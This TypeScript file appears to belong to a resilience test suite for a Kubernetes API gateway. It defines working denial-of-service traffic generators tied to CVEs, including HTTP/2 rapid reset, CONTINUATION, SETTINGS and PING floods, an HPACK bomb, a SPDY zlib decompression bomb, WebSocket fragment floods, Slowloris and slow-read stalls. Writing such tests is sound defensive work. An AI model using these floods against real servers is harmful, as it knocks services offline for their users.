// The floods of the security bar, each as what one connection of the attacker says: once at its beginning, and then again
// and again for as long as it is let. What they do to the gateway is measured by main.ts.

import { deflateSync } from 'node:zlib'
import { HpackEncoder } from '../../protocols/hpack/encoder.ts'
import { FLAG, FRAME, PREFACE, writeFrame, writeNumber, writeSettings } from '../../protocols/http2/frames.ts'
import { limits } from '../../protocols/limits.ts'

export interface Attack {
  /** What it is known as. */
  readonly source: string
  readonly protocol: 'h2' | 'http/1.1'
  /** Connections at once. */
  readonly connections: number
  /** Does not read what comes. */
  readonly isDeaf?: boolean
  /** Waits so long between two messages; 0: as fast as the socket takes them. */
  readonly paceMillis?: number
  /** Behind a 101 that was asked for with these fields. */
  readonly upgrade?: readonly string[]
  /** What a new connection says first, and what then makes its messages. */
  open(token: string): { readonly first: Buffer; next(): Buffer }
}

const PIECES = 64
const PATH = '/api/v1/namespaces/default/configmaps/small'
const BIG = '/api/v1/namespaces/default/configmaps/big'
const NOTHING = new Uint8Array(0)
const END = FLAG.END_HEADERS | FLAG.END_STREAM

function frames(write: (output: Uint8Array[]) => void): Buffer {
  const output: Uint8Array[] = []
  write(output)
  return Buffer.concat(output)
}

function preface(settings: readonly number[] = []): Buffer {
  return frames((output) => {
    output.push(PREFACE)
    writeSettings(output, settings)
  })
}

/** Requests of one connection, each with the next stream's number. */
class Requests {
  readonly #encoder = new HpackEncoder(limits.hpack)
  readonly #fields: string[]
  #stream = -1

  constructor(token: string, path = PATH, method = 'GET') {
    this.#fields = [
      ...[':method', method, ':scheme', 'https', ':authority', 'localhost', ':path', path],
      ...['authorization', `Bearer ${token}`],
    ]
  }

  write(output: Uint8Array[], flags = END): number {
    this.#stream += 2
    writeFrame(output, FRAME.HEADERS, flags, this.#stream, this.#encoder.encode(this.#fields))
    return this.#stream
  }
}

/** Requests with something bad behind each. */
function requests(behind: (output: Uint8Array[], stream: number) => void): Attack['open'] {
  return (token) => {
    const asked = new Requests(token)
    const next = (): Buffer =>
      frames((output) => {
        for (let count = 0; count < PIECES; count++) behind(output, asked.write(output))
      })
    return { first: preface(), next }
  }
}

/** The same frames again and again behind a beginning. */
function repeated(
  write: (output: Uint8Array[]) => void,
  begin?: (output: Uint8Array[], token: string) => void,
): Attack['open'] {
  return (token) => {
    const message = frames((output) => {
      for (let count = 0; count < PIECES; count++) write(output)
    })
    const first = Buffer.concat([preface(), frames((output) => begin?.(output, token))])
    return { first, next: () => message }
  }
}

function always(first: Buffer, message: Buffer): Attack['open'] {
  return () => ({ first, next: () => message })
}

const EXEC = '/api/v1/namespaces/default/pods/p/exec?container=c&command=idle&stdin=true&stdout=true&stderr=true'
const WEBSOCKET = [
  ...[`GET ${EXEC} HTTP/1.1`, 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'],
  ...['Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Protocol: v5.channel.k8s.io'],
]
const SPDY = [
  ...[`POST ${EXEC} HTTP/1.1`, 'Connection: Upgrade', 'Upgrade: SPDY/3.1', 'Content-Length: 0'],
  'X-Stream-Protocol-Version: v4.channel.k8s.io',
]

/** A SYN_STREAM whose header block is 16 MiB of zeros once inflated. */
function spdyBomb(): Buffer {
  const block = deflateSync(Buffer.alloc(16_777_216))
  const head = Buffer.alloc(18)
  head.writeUInt32BE(0x8003_0001, 0)
  head.writeUInt32BE(10 + block.length, 4)
  head.writeUInt32BE(1, 8)
  return Buffer.concat([head, block])
}

export const ATTACKS: Readonly<Record<string, Attack>> = {
  'rapid reset': {
    ...{ source: 'CVE-2023-44487', protocol: 'h2', connections: 8 },
    open: requests((output, stream) => writeNumber(output, FRAME.RST_STREAM, stream, 8)),
  },
  'made you reset': {
    ...{ source: 'CVE-2025-8671', protocol: 'h2', connections: 8 },
    open: requests((output, stream) => writeNumber(output, FRAME.WINDOW_UPDATE, stream, 0)),
  },
  continuation: {
    ...{ source: 'CVE-2024-27316', protocol: 'h2', connections: 8 },
    open: repeated(
      (output) => writeFrame(output, FRAME.CONTINUATION, 0, 1, new Uint8Array(1_024)),
      (output, token) => void new Requests(token).write(output, 0),
    ),
  },
  settings: {
    ...{ source: 'CVE-2019-9515', protocol: 'h2', connections: 8, isDeaf: true },
    open: repeated((output) => writeSettings(output, [4, 65_535])),
  },
  ping: {
    ...{ source: 'CVE-2019-9512', protocol: 'h2', connections: 8, isDeaf: true },
    open: repeated((output) => writeFrame(output, FRAME.PING, 0, 0, new Uint8Array(8))),
  },
  'empty frames': {
    ...{ source: 'CVE-2019-9518', protocol: 'h2', connections: 8 },
    open: repeated(
      (output) => writeFrame(output, FRAME.DATA, 0, 1, NOTHING),
      (output, token) => void new Requests(token, PATH, 'PATCH').write(output, FLAG.END_HEADERS),
    ),
  },
  'hpack bomb': {
    ...{ source: 'CVE-2016-6581, CVE-2026-49975', protocol: 'h2', connections: 8 },
    open: () => {
      let stream = -1
      const entry = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4_000, 'x')])
      const bomb = Buffer.alloc(16_000, 0xbe)
      const first = Buffer.concat([preface(), frames((output) => writeFrame(output, FRAME.HEADERS, END, 1, entry))])
      const next = (): Buffer =>
        frames((output) => {
          stream = Math.max(1, stream) + 2
          writeFrame(output, FRAME.HEADERS, END, stream, bomb)
        })
      return { first, next }
    },
  },
  'websocket fragments': {
    ...{ source: 'CVE-2026-48779', protocol: 'http/1.1', connections: 8, upgrade: WEBSOCKET },
    open: always(
      Buffer.from([0x02, 0x81, 0, 0, 0, 0, 0]),
      Buffer.concat(Array.from({ length: 256 }, () => Buffer.from([0x00, 0x81, 0, 0, 0, 0, 0x41]))),
    ),
  },
  'spdy zlib bomb': {
    ...{ source: 'CVE-2026-35469', protocol: 'http/1.1', connections: 8, upgrade: SPDY },
    open: always(Buffer.alloc(0), spdyBomb()),
  },
  'slow heads': {
    ...{ source: 'Slowloris', protocol: 'http/1.1', connections: 600, paceMillis: 1_000 },
    open: always(Buffer.from('GET /api HTTP/1.1\r\nHost: localhost\r\nX-Slow: '), Buffer.from('a')),
  },
  'slow reads': {
    ...{ source: 'CVE-2019-9517, CVE-2019-9511', protocol: 'h2', connections: 8, isDeaf: true, paceMillis: 1_000 },
    open: (token) => {
      const asked = new Requests(token, BIG)
      const next = (): Buffer =>
        frames((output) => {
          for (let count = 0; count < PIECES; count++) asked.write(output)
        })
      // Windows of one octet: every answer is stalled at its first byte.
      return { first: preface([4, 1]), next }
    },
  },
}
